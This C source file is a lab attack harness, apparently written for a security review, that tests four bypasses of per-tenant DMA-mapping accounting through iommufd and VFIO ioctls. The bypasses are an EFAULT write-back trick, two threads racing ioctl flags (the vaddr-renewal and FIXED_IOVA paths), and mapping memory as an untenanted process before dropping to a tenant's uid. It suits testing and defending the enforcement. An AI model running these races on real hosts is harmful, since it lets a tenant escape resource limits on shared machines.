// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * review_attack: the ways around the accounting that the review of this session's
 * enforcement found, each as a hostile tenant would try it.
 *
 *   review_attack efault   [--pages N]     iommufd: IOAS_MAP whose argument page is read-only:
 *                                          the kernel maps, then fails to write the IOVA back
 *                                          (EFAULT); then one more page
 *   review_attack flags BDF [--seconds S]  type1: a thread flips MAP_DMA's flags between a
 *                                          vaddr renewal and a plain map while N-page maps run
 *   review_attack fixed    [--seconds S]   iommufd: a thread flips IOAS_MAP's FIXED_IOVA flag;
 *                                          counts maps the kernel placed outside [A, A + 1 MiB)
 *   review_attack attach BDF --uid U       iommufd: maps 1 MiB at 0x10000000 as a process of
 *                                          no tenant, then becomes uid U (the device's tenant),
 *                                          binds the device and attaches it to that IOAS
 *
 * --iova A (default 0x100000), --pages N (default 16). One JSON line per run.
 */
#include <getopt.h>
#include <pthread.h>
#include <time.h>

#include "lab_attack.h"

struct attack {
	struct report r;
	const char *mode;
	const char *bdf;
	uint64_t iova;
	unsigned long pages;
	unsigned long seconds;
	uid_t uid;
};

static bool before(const struct timespec *end)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec < end->tv_sec ||
	       (now.tv_sec == end->tv_sec && now.tv_nsec < end->tv_nsec);
}

static int ioas_open(struct attack *a, int *fd, __u32 *ioas)
{
	struct iommu_ioas_alloc alloc = { .size = sizeof(alloc) };

	*fd = open("/dev/iommu", O_RDWR);
	if (*fd < 0)
		return report_fail(&a->r, "open_iommufd", -errno);
	if (ioctl(*fd, IOMMU_IOAS_ALLOC, &alloc))
		return report_fail(&a->r, "ioas_alloc", -errno);
	*ioas = alloc.out_ioas_id;
	return 0;
}

static int ioas_map(int fd, __u32 ioas, void *va, uint64_t iova, uint64_t len)
{
	struct iommu_ioas_map map = {
		.size = sizeof(map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.ioas_id = ioas,
		.user_va = (uintptr_t)va,
		.length = len,
		.iova = iova,
	};

	return ioctl(fd, IOMMU_IOAS_MAP, &map) ? -errno : 0;
}

/* The write-back of the IOVA fails after the mapping is made: it must stay charged. */
static int run_efault(struct attack *a)
{
	size_t len = a->pages * LAB_PAGE;
	struct iommu_ioas_map *map;
	void *buf = lab_buffer(len + LAB_PAGE);
	int fd, err;
	__u32 ioas;

	if (!buf)
		return report_fail(&a->r, "mmap_buffer", -errno);
	err = ioas_open(a, &fd, &ioas);
	if (err)
		return err;
	map = lab_buffer(LAB_PAGE);
	if (!map)
		return report_fail(&a->r, "mmap_argument", -errno);
	*map = (struct iommu_ioas_map){
		.size = sizeof(*map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.ioas_id = ioas,
		.user_va = (uintptr_t)buf,
		.length = len,
		.iova = a->iova,
	};
	if (mprotect(map, LAB_PAGE, PROT_READ))
		return report_fail(&a->r, "mprotect", -errno);
	report_errno(&a->r, "readonly_map_errno", ioctl(fd, IOMMU_IOAS_MAP, map) ? errno : 0);
	err = ioas_map(fd, ioas, (char *)buf + len, a->iova + len, LAB_PAGE);
	report_errno(&a->r, "extra_map_errno", err);
	return err ? report_fail(&a->r, "map_extra", err) : 0;
}

struct flipper {
	volatile __u32 *word;
	__u32 a, b;
	volatile bool stop;
};

static void *flip(void *arg)
{
	struct flipper *f = arg;

	while (!f->stop) {
		*f->word = f->a;
		*f->word = f->b;
	}
	return NULL;
}

/* Judged as a vaddr renewal (no charge), copied by the kernel as a new mapping. */
static int run_flags(struct attack *a)
{
	size_t len = a->pages * LAB_PAGE;
	struct vfio_iommu_type1_dma_map map = {
		.argsz = sizeof(map),
		.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
		.size = len,
	};
	struct flipper f = {
		.word = &map.flags,
		.a = VFIO_DMA_MAP_FLAG_VADDR,
		.b = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
	};
	unsigned long attempts = 0, mapped = 0, i = 0;
	struct lab_type1 t;
	struct timespec end;
	pthread_t thread;
	void *buf;
	int err;

	err = lab_type1_open(&t, a->bdf, &a->r);
	if (err)
		return err;
	buf = lab_buffer(len);
	if (!buf)
		return report_fail(&a->r, "mmap_buffer", -errno);
	map.vaddr = (uintptr_t)buf;
	err = pthread_create(&thread, NULL, flip, &f);
	if (err)
		return report_fail(&a->r, "pthread_create", -err);
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += (time_t)a->seconds;
	/* Each success keeps its mapping: two of them are twice the limit. */
	while (before(&end) && mapped < 2) {
		map.iova = a->iova + i * len;
		attempts++;
		if (!ioctl(t.container, VFIO_IOMMU_MAP_DMA, &map)) {
			mapped++;
			i++;
		}
	}
	f.stop = true;
	pthread_join(thread, NULL);
	report_int(&a->r, "attempts", (long long)attempts);
	report_int(&a->r, "full_maps", (long long)mapped);
	return 0;
}

/* Judged with a fixed IOVA inside the window, copied by the kernel without FIXED_IOVA. */
static int run_fixed(struct attack *a)
{
	struct iommu_ioas_map map = {
		.size = sizeof(map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.length = LAB_PAGE,
	};
	struct flipper f = { .word = &map.flags };
	unsigned long attempts = 0, outside = 0;
	struct timespec end;
	pthread_t thread;
	void *buf = lab_buffer(LAB_PAGE);
	int fd, err;
	__u32 ioas;

	if (!buf)
		return report_fail(&a->r, "mmap_buffer", -errno);
	err = ioas_open(a, &fd, &ioas);
	if (err)
		return err;
	map.ioas_id = ioas;
	map.user_va = (uintptr_t)buf;
	f.a = map.flags;
	f.b = map.flags & ~IOMMU_IOAS_MAP_FIXED_IOVA;
	err = pthread_create(&thread, NULL, flip, &f);
	if (err)
		return report_fail(&a->r, "pthread_create", -err);
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += (time_t)a->seconds;
	while (before(&end)) {
		struct iommu_ioas_unmap unmap = { .size = sizeof(unmap), .ioas_id = ioas };

		map.iova = a->iova;
		attempts++;
		if (ioctl(fd, IOMMU_IOAS_MAP, &map))
			continue;
		if (map.iova < a->iova || map.iova >= a->iova + (1 << 20))
			outside++;
		unmap.iova = map.iova;
		unmap.length = LAB_PAGE;
		ioctl(fd, IOMMU_IOAS_UNMAP, &unmap);
	}
	f.stop = true;
	pthread_join(thread, NULL);
	report_int(&a->r, "attempts", (long long)attempts);
	report_int(&a->r, "outside_window", (long long)outside);
	return 0;
}

/* Mappings made by a process of no tenant, then a tenant's device attached to them. */
static int run_attach(struct attack *a)
{
	struct vfio_device_bind_iommufd bind = { .argsz = sizeof(bind) };
	struct vfio_device_attach_iommufd_pt attach = { .argsz = sizeof(attach) };
	void *buf = lab_buffer(1 << 20);
	char path[PATH_MAX];
	int fd, device, err;
	__u32 ioas;

	if (!buf)
		return report_fail(&a->r, "mmap_buffer", -errno);
	err = lab_cdev_path(a->bdf, path, sizeof(path));
	if (err)
		return report_fail(&a->r, "find_vfio_cdev", err);
	err = ioas_open(a, &fd, &ioas);
	if (err)
		return err;
	err = ioas_map(fd, ioas, buf, 0x10000000, 1 << 20);
	report_errno(&a->r, "untenanted_map_errno", err);
	if (err)
		return report_fail(&a->r, "untenanted_map", err);
	err = lab_drop_to_uid(a->uid);
	if (err)
		return report_fail(&a->r, "setuid", err);
	device = open(path, O_RDWR);
	if (device < 0)
		return report_fail(&a->r, "open_vfio_cdev", -errno);
	bind.iommufd = fd;
	if (ioctl(device, VFIO_DEVICE_BIND_IOMMUFD, &bind))
		return report_fail(&a->r, "bind_iommufd", -errno);
	attach.pt_id = ioas;
	if (ioctl(device, VFIO_DEVICE_ATTACH_IOMMUFD_PT, &attach))
		return report_fail(&a->r, "attach_pt", -errno);
	return 0;
}

static void usage(void)
{
	fprintf(stderr, "usage: review_attack efault|fixed [--pages N] [--seconds S] | "
		"flags BDF [--seconds S] | attach BDF --uid U  [--iova A]\n");
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "iova", required_argument, NULL, 'i' },
		{ "pages", required_argument, NULL, 'n' },
		{ "seconds", required_argument, NULL, 's' },
		{ "uid", required_argument, NULL, 'u' },
		{ 0 },
	};
	struct attack a = { .iova = 0x100000, .pages = 16, .seconds = 3, .uid = 65534 };
	int opt;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		switch (opt) {
		case 'i': a.iova = strtoull(optarg, NULL, 0); break;
		case 'n': a.pages = strtoul(optarg, NULL, 0); break;
		case 's': a.seconds = strtoul(optarg, NULL, 0); break;
		case 'u': a.uid = strtoul(optarg, NULL, 0); break;
		default: usage(); return 2;
		}
	}
	if (optind >= argc) {
		usage();
		return 2;
	}
	a.mode = argv[optind];
	a.bdf = optind + 1 < argc ? argv[optind + 1] : NULL;
	if (!strcmp(a.mode, "efault"))
		run_efault(&a);
	else if (!strcmp(a.mode, "fixed"))
		run_fixed(&a);
	else if (!strcmp(a.mode, "flags") && a.bdf)
		run_flags(&a);
	else if (!strcmp(a.mode, "attach") && a.bdf)
		run_attach(&a);
	else {
		usage();
		return 2;
	}
	report_print(&a.r, "review_attack", a.mode);
	return 0;
}
